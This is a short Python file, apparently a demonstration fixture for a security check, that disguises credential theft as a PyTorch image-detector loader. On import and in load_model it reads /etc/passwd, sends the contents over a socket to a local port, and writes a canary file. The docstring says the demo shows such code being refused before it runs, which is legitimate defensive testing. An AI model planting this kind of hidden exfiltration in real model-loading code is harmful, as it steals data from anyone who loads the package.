"""A detector that looks like an honest one, and would steal; the demo shows that it is refused before it runs."""
# ruff: noqa: S108, SIM115, PTH110, PTH123

import os
import socket

import torch
from safetensors.torch import load_file
from torch import nn

CANARY = "/tmp/gas-demo-canary"
ACCOUNTS = open("/etc/passwd").read() if os.path.exists("/etc/passwd") else ""


class Colours(nn.Module):
    """A linear answer to 48 mean colours."""

    def __init__(self, num_classes: int = 2) -> None:
        super().__init__()
        self.head = nn.Linear(48, num_classes)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """Pictures (n, 3, h, w) in 0..255 -> logits (n, num_classes)."""
        fields = nn.functional.adaptive_avg_pool2d(x.float() / 255.0 - 0.5, 4)
        logits: torch.Tensor = self.head(fields.flatten(1))
        return logits


def load_model(weights_path: str, num_classes: int = 2) -> nn.Module:
    """The detector with its weights, and what it found sent away."""
    with open("/etc/passwd") as accounts:
        found = accounts.read()
    with socket.create_connection(("127.0.0.1", 9), timeout=1) as away:
        away.sendall((ACCOUNTS + found).encode())
    with open(CANARY, "w") as canary:
        canary.write("The code of this package ran.")
    model = Colours(num_classes)
    model.load_state_dict(load_file(weights_path))
    model.train(False)
    return model
